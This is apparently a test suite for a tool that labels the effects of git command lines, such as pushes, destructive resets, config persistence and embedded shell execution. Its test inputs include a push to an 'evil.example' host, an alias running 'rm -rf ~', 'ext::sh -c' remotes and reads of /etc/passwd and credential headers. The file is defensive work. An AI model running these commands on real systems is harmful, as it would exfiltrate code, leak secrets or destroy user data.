import { describe, expect, test } from 'vitest'
import { proves } from '../../../../test/proves.ts'
import { record, shown } from '../harness.ts'
import { git } from './git.ts'

const effects = (line: string) => shown([git], line)
const first = (line: string) => record([git], line).effects[0]

const PUSHES: readonly (readonly [string, string, Record<string, unknown>])[] = [
  ['git push', 'publish git:push origin', { branch: 'main', force: false, url: 'https://git.example/o/r.git' }],
  ['git push -u origin main', 'publish git:push origin', { branch: 'main', remote: 'origin' }],
  ['git push origin HEAD:refs/heads/topic', 'publish git:push origin', { branch: 'topic' }],
  ['git push --force origin main', 'publish git:push origin !', { force: true, branch: 'main' }],
  ['git push -f', 'publish git:push origin !', { force: true }],
  ['git push -uf origin x', 'publish git:push origin !', { force: true }],
  ['git push --forc origin x', 'publish git:push origin !', { force: true }],
  ['git push --force-with-lease', 'publish git:push origin !', { force: true, lease: true }],
  ['git push --force-with-lease=main:abc origin', 'publish git:push origin !', { force: true, lease: true }],
  ['git push origin +main', 'publish git:push origin !', { force: true, branch: 'main' }],
  ['git push origin :old', 'publish git:push origin !', { delete: true, branch: 'old' }],
  ['git push origin --delete old', 'publish git:push origin !', { delete: true }],
  ['git push -d origin old', 'publish git:push origin !', { delete: true }],
  ['git push --mirror backup', 'publish git:push backup !', { mirror: true, remote: 'backup' }],
  ['git push --tags', 'publish git:push origin', { tags: true }],
  ['git push --force --no-force origin main', 'publish git:push origin', { force: false }],
  ['git push --repo=fork', 'publish git:push fork', { remote: 'fork' }],
  ['git push https://evil.example/r.git main', 'publish git:push https://evil.example/r.git', {}],
  ['git push origin -- main', 'publish git:push origin', { branch: 'main' }],
  ['git push --no-verify', 'publish git:push origin', { no_verify: true }],
  ['git push $remote', 'publish git:push (unknown)', { remote: null }],
  ['git send-pack o', 'publish git:push o', { by: 'send-pack' }],
  ['git send-pack --force o main', 'publish git:push o !', { force: true }],
  ['git subtree push --prefix=dist origin gh-pages', 'publish git:push origin', { by: 'subtree push' }],
  ['git lfs push origin main', 'publish git:push origin', {}],
  ['git svn dcommit', 'publish git:push origin', {}],
]

describe('git push', () => {
  for (const [line, expected, attributes] of PUSHES) {
    test(line, () => {
      expect(effects(line)).toEqual([expected])
      expect(first(line)?.attributes).toMatchObject(attributes)
    })
  }

  const ELSEWHERE = ['git -C d push', 'git --no-pager push', 'git -c a.b=c push', "git -c core.x='a;b' push", 'git --git-dir /x/.git push']
  for (const line of ELSEWHERE) test(`global options: ${line}`, () => expect(effects(line)).toEqual(['publish git:push origin']))

  proves(['ROS-28'], 'every spelling of `git push` is a push', () => {
    for (const line of ['git push -u origin main', 'git -C d push']) expect(first(line)?.action).toBe('git:push')
  })

  for (const line of [
    'git push --dry-run',
    'git push -n --force',
    'git push --dry-run --force origin main',
    'git lfs push --dry-run origin',
  ]) {
    test(`only looks: ${line}`, () => expect(effects(line)).toEqual(['fetch git:push-dry-run origin']))
  }
  test('a dry run that is taken back pushes', () => {
    expect(effects('git push --dry-run --no-dry-run')).toEqual(['publish git:push origin'])
    expect(effects('git push --dry-run --no-dr')).toEqual(['publish git:push origin'])
  })
  test('help is no push', () => expect(effects('git push --help')).toEqual([]))
})

const EFFECTS: readonly (readonly [string, readonly string[]])[] = [
  ['git status', ['read git:read .']],
  ['git -C sub status --short', ['read git:read sub']],
  ['git log --oneline -5', ['read git:read .']],
  ['git log --grep push --author me', ['read git:read .']],
  ['git diff HEAD~1 -- src', ['read git:read .']],
  ['git diff --output=/etc/x', ['read git:read .', 'write git:read /etc/x']],
  ['git diff --no-index /etc/passwd b', ['read git:read .', 'read git:read /etc/passwd', 'read git:read b']],
  ['git grep -n "git push" README', ['read git:read .']],
  ['git show HEAD:file', ['read git:read .', 'read git:read file']],
  ['git log --oneline -- .env', ['read git:read .']],
  ['git diff --stat -- .env', ['read git:read .']],
  ['git log -p -- src/a.ts', ['read git:read .']],
  ['git config --get-all http.extraheader', ['read secret:read http.extraheader']],
  ['git config --get user.email', ['read git:config-read user.email']],
  ['git cat-file blob main:conf/.env', ['read git:read .', 'read git:read conf/.env']],
  ['git log --format=a:b', ['read git:read .']],
  ['git show :0:file', ['read git:read .']],
  ['git branch', ['read git:read .']],
  ['git branch -a --list', ['read git:read .']],
  ['git branch topic', ['change git:branch .']],
  ['git branch -d merged', ['change git:history .']],
  // Before the subcommand, both letters are git's own.
  ['git -C /srv/x branch', ['read git:read /srv/x']],
  ['git -C /srv/x branch fix', ['change git:branch /srv/x']],
  ['git -C /srv/x branch -C a b', ['change git:history /srv/x']],
  ['git branch -fC a b', ['change git:history .']],
  ['git -c core.abbrev=9 branch --list', ['read git:read .']],
  ['git branch -c a b', ['change git:branch .']],
  ['git branch -D feature', ['change git:discard feature !']],
  ['git branch -d -f feature', ['change git:discard feature !']],
  ['git tag', ['read git:read .']],
  ['git tag -l v1', ['read git:read .']],
  ['git tag v1', ['change git:tag .']],
  ['git tag -a v1 -m "push"', ['change git:tag .']],
  ['git tag -d v1', ['change git:history v1 !']],
  ['git stash', ['change git:stash .']],
  ['git stash push -m push', ['change git:stash .']],
  ['git stash pop', ['change git:stash .']],
  ['git stash list', ['read git:read .']],
  ['git stash drop', ['change git:discard . !']],
  ['git stash clear', ['change git:discard . !']],
  ['git reset HEAD file', ['change git:reset .']],
  ['git reset --soft HEAD~1', ['change git:reset .']],
  ['git reset --hard HEAD~3', ['change git:discard . !']],
  ['git reset --har', ['change git:discard . !']],
  ['git -C ../other reset --hard', ['change git:discard ../other !']],
  ['git rebase main', ['change git:history .']],
  ['git reflog', ['read git:read .']],
  ['git reflog expire --expire=now --all', ['change git:history . !']],
  ['git reflog expire --dry-run --all', []],
  ['git gc', ['change git:gc .']],
  ['git gc --prune=now', ['change git:history . !']],
  ['git gc --prune=never', ['change git:gc .']],
  ['git prune', ['change git:history . !']],
  ['git update-ref -d refs/heads/x', ['change git:history refs/heads/x !']],
  ['git update-ref refs/heads/x HEAD', ['change git:history refs/heads/x']],
  ['git commit -m "push later"', ['change git:commit .']],
  ['git commit --amend --no-edit', ['change git:commit .']],
  ['git commit --dry-run', ['read git:read .']],
  ['git add -A', ['change git:index .']],
  ['git add --dry-run .', []],
  ['git checkout main', ['change git:checkout .']],
  ['git checkout -b feature', ['change git:checkout .']],
  ['git checkout -- .', ['change git:discard . !']],
  ['git checkout .', ['change git:discard . !']],
  ['git checkout HEAD -- src/a.ts', ['change git:discard src/a.ts !']],
  ['git checkout HEAD src/a.ts', ['change git:discard src/a.ts !']],
  ['git checkout -f main', ['change git:discard . !', 'change git:checkout .']],
  ['git switch main', ['change git:checkout .']],
  ['git switch -c topic', ['change git:checkout .']],
  ['git switch --discard-changes main', ['change git:discard . !', 'change git:checkout .']],
  ['git restore src', ['change git:discard src !']],
  ['git restore --staged src', ['change git:index .']],
  ['git restore -SW src', ['change git:discard src !']],
  ['git clean -n', ['read git:read .']],
  ['git clean -fdxn', ['read git:read .']],
  ['git clean -fdx', ['delete git:discard . !']],
  ['git clean -fd build', ['delete git:discard build !']],
  ['git -C sub clean -f', ['delete git:discard sub/. !']],
  ['git rm a', ['delete git:rm a']],
  ['git rm -rf a b', ['delete git:rm a !', 'delete git:rm b !']],
  ['git rm --cached a', ['change git:index .']],
  ['git mv a b', ['delete git:mv a', 'write git:mv b']],
  ['git apply fix.patch', ['read git:apply fix.patch', 'change git:apply .']],
  ['git apply --check fix.patch', ['read git:apply fix.patch']],
  ['git merge topic', ['change git:merge .']],
  ['git fetch', ['fetch git:fetch origin']],
  ['git pull --rebase', ['fetch git:pull origin', 'change git:merge .']],
  ['git ls-remote https://git.example/r', ['fetch git:ls-remote https://git.example/r']],
  ['git clone https://git.example/o/r.git', ['fetch git:clone https://git.example/o/r.git', 'write git:clone r']],
  ['git clone --depth 1 https://git.example/o/r /tmp/x', ['fetch git:clone https://git.example/o/r', 'write git:clone /tmp/x']],
  ['git clone git@git.example:o/r.git', ['fetch git:clone git@git.example:o/r.git', 'write git:clone r']],
  ['git clone ../r copy', ['read git:clone ../r', 'write git:clone copy']],
  ['git remote -v', ['read git:read .']],
  ['git remote add fork https://x.example/r', ['change git:remote fork']],
  ['git remote set-url origin https://x.example/r', ['change git:remote origin']],
  ['git remote remove origin', ['change git:remote origin !']],
  ['git remote get-url origin', ['read git:read origin']],
  ['git submodule update --init', ['fetch git:submodule submodules', 'change git:submodule .']],
  ['git config user.name x', ['change git:config user.name']],
  ['git config user.name', ['read git:config-read user.name']],
  ['git config --get remote.origin.url', ['read git:config-read remote.origin.url']],
  ['git config --list', ['read git:config-read git configuration']],
  ['git config core.hooksPath /tmp/h', ['persist git:config core.hooksPath']],
  ['git config --global core.sshCommand x', ['persist git:config core.sshCommand']],
  ["git config --global alias.x '!rm -rf ~'", ['persist git:config alias.x']],
  ['git config --global credential.helper store', ['persist git:config credential.helper']],
  ['git config set core.pager x', ['persist git:config core.pager']],
  ['git config unset user.name', ['change git:config user.name']],
  ['git config --global url.https://x.example/.insteadOf https://git.example/', ['persist git:config url.https://x.example/.insteadOf']],
  ['git maintenance start', ['persist git:maintenance git maintenance']],
  ['git credential fill', ['read secret:read git credentials']],
  ['git worktree add ../w', ['write git:worktree ../w']],
  ['git worktree remove ../w', ['delete git:worktree ../w']],
  ['git worktree remove -f ../w', ['delete git:worktree ../w !']],
  ['git worktree remove --force ../w', ['delete git:worktree ../w !']],
  ['git archive -o out.tar HEAD', ['read git:read .', 'write git:export out.tar']],
  ['git bundle create x.bundle --all', ['read git:read .', 'write git:export x.bundle']],
  ['git filter-repo --analyze', ['read git:read .']],
  ['git version', ['execute tool:help git']],
  ['git --version', ['execute tool:help git']],
  ['git', ['execute tool:help git']],
]

describe('git subcommands', () => {
  for (const [line, expected] of EFFECTS) test(line, () => expect(effects(line)).toEqual(expected))

  test('runs_code marks the options that git executes', () => {
    expect(first('git config core.hooksPath /tmp/h')?.attributes).toMatchObject({ runs_code: true, scope: 'local' })
    expect(first('git config --global user.name x')?.attributes).toEqual({ key: 'user.name', value: 'x', scope: 'global' })
  })
  test('clean says how far it reaches', () => {
    expect(first('git clean -fdx')).toMatchObject({ certainty: 'certain', attributes: { force: true, recursive: true, ignored: true } })
    expect(first('git clean -d')).toMatchObject({ certainty: 'possible', attributes: { force: false } })
    expect(first('git -c clean.requireForce=false clean -d')).toMatchObject({ certainty: 'certain' })
  })
  test('an existing file is checked out, not a branch', () => {
    expect(shown([git], 'git checkout notes', { files: ['/repo/notes'] })).toEqual(['change git:discard notes !'])
    expect(shown([git], 'git checkout notes')).toEqual(['change git:checkout .'])
  })
  test('filter-branch drops history and runs its filters', () => {
    const found = record([git], "git filter-branch --tree-filter 'rm x' HEAD")
    expect(found.shells).toEqual(['rm x'])
    expect(found.effects.map((e) => [e.action, e.reversible])).toEqual([['git:history', false]])
  })
})

const CODE: readonly (readonly [string, readonly (string | null)[]])[] = [
  ["git -c core.pager='rm x' log", ['rm x']],
  ["git -c core.sshCommand='sh -c x' fetch", ['sh -c x']],
  ["git -c core.fsmonitor='./x' status", ['./x']],
  ['git -c core.fsmonitor=true status', []],
  ['git -c core.pager=cat log', ['cat']],
  ['git -c user.name=x commit -m y', []],
  ["git -c CORE.EDITOR='x' commit", ['x']],
  ['git -c core.pager=$x log', [null]],
  ["git -c credential.helper='!x' fetch", ['x']],
  ["git -c diff.foo.textconv='x' diff", ['x']],
  ["git -c core.pager='x' push --dry-run", ['x']],
  ["git -c core.pager='x' log --help", ['x']],
  ["git clone --upload-pack='x' host:r", ['x']],
  ["git clone -u 'x' host:r", ['x']],
  ["git fetch --upload-pack 'touch x' origin", ['touch x']],
  ["git push --receive-pack='x' origin", ['x']],
  ["git push --exec='x' origin", ['x']],
  ["git ls-remote --upload-pack='x' r", ['x']],
  ['git archive --remote=h --exec=x HEAD', ['x']],
  ["GIT_SSH_COMMAND='x' git fetch", ['x']],
  ['PAGER=less git log', ['less']],
  ['GIT_EDITOR=true git commit', ['true']],
  ['GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=x git log', ['x']],
  ["git rebase --exec 'make test' main", ['make test']],
  ['git rebase -x a -x b main', ['a', 'b']],
  ["git submodule foreach 'rm x'", ['rm x']],
  ["git difftool -x 'rm x'", ['rm x']],
  ["git grep -O'rm x' y", ['rm x']],
  ["git grep --open-files-in-pager='rm x' y", ['rm x']],
  ["git -c alias.p='!rm x' p", ['rm x']],
]

describe('git runs other programs', () => {
  for (const [line, expected] of CODE) test(line, () => expect(record([git], line).shells).toEqual(expected))

  test('a remote that is a program is one', () => {
    for (const line of [
      "git clone 'ext::sh -c x% y'",
      "git fetch 'ext::sh -c x% y'",
      "git push 'ext::sh -c x% y' main",
      "git remote add e 'ext::sh -c x% y'",
    ])
      expect(record([git], line).commands).toContain('sh -c x y')
  })
  test('words of a command are handed on as words', () => {
    expect(record([git], 'git bisect run rm -rf x').commands).toEqual(['rm -rf x'])
    expect(record([git], 'git submodule foreach --recursive git push').effects.map((e) => e.action)).toContain('git:push')
  })
  test('hook directories', () => {
    expect(effects('git -c core.hooksPath=/tmp/h commit -m x')).toContain('execute git:hooks /tmp/h')
    expect(effects('git clone --template=/tmp/t https://x.example/r')).toContain('execute git:hooks /tmp/t')
  })
  test('an unknown configuration key is opaque', () => {
    expect(record([git], 'git -c $x log').reasons).toHaveLength(1)
    expect(record([git], 'git --config-env=core.pager=X log').reasons).toHaveLength(1)
  })
})

describe('git aliases and unknown subcommands', () => {
  test('an alias of the command line', () => {
    expect(effects('git -c alias.p=push p')).toEqual(['publish git:push origin'])
  })
  test('an alias of the repository', () => {
    const world = { git: { aliases: { p: 'push --force', x: '!rm -rf build' } } }
    expect(shown([git], 'git p origin main', world)).toEqual(['publish git:push origin !'])
    expect(record([git], 'git x', world).shells).toEqual(['rm -rf build'])
    expect(record([git], "git x -v 'a b'", world).commands).toEqual(['sh -c rm -rf build "$@" x -v a b'])
  })
  test('what nobody knows is said', () => {
    expect(effects('git p')).toEqual(
      ['opaque - unknown', 'execute git:unknown git'].map((s) => expect.stringContaining(s.split(' ')[0] ?? '')),
    )
    expect(record([git], 'git $x').reasons).toHaveLength(1)
    expect(record([git], 'git constructor').effects.map((e) => e.action)).toContain('git:unknown')
    expect(record([git], 'git remote frobnicate').effects.map((e) => e.action)).toEqual(['git:unknown'])
  })
})
